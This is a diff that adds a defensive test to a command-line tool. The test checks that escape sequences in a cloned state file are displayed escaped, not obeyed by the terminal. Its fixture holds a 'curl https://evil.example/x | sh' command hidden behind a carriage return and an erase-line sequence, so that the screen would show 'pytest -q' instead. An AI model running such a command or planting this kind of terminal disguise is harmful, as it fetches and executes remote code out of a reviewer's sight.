@@ -318,3 +318,38 @@ def test_a_group_without_a_subcommand_shows_its_help_not_one_folded_error_line(
         assert (result.code, result.err) == (0, ""), args
         assert result.out == rs(*args, "--help").out
         assert result.out.startswith(usage + "\n\n")
+
+
+# -- text from a cloned state file cannot redraw the terminal ----------------------------------
+
+
+def test_control_characters_in_a_state_file_are_shown_not_obeyed(project: Path, rs: Any) -> None:
+    """A check that came with a clone must look like what it runs when a person reviews it
+    before `ralphstate trust`: a carriage return and an erase-line sequence could otherwise
+    show `pytest -q` over `curl evil | sh`."""
+    start(rs)
+    path = project / ".loop" / "state.json"
+    state = json.loads(path.read_text())
+    hidden = "curl https://evil.example/x | sh\r\x1b[2Kpytest -q"
+    name = "tests pass\x1b]0;title\x07"
+    state["criteria"] = [name]
+    state["criteriaStatus"] = {}
+    state["checks"] = {name: hidden}
+    state["spec"] = "Export\x9b2J invoices"
+    path.write_text(json.dumps(state))
+    shown_name = "tests pass\\x1b]0;title\\x07"
+    shown_check = "curl https://evil.example/x | sh\\x0d\\x1b[2Kpytest -q"
+
+    status = rs("status")
+    assert status.code == 0, status.err
+    assert "spec: Export\\x9b2J invoices\n" in status.out
+    assert f"  [ ] {shown_name}  (unchecked)\n" in status.out
+    assert f"  {shown_name}: {shown_check}\n" in status.out
+    assert rs("criteria", "list").out == f"1. [ ] {shown_name}\n"
+    check = rs("criteria", "check", "1")
+    assert check.out == f"{shown_name}: {shown_check}  (timeout 600s, default)\n"
+    trusted = rs("trust")
+    assert trusted.code == 0, trusted.err
+    assert trusted.out.splitlines()[0] == f"  {shown_name}: {shown_check}"
+    for out in (status.out, check.out, trusted.out):
+        assert "\x1b" not in out and "\r" not in out and "\x9b" not in out
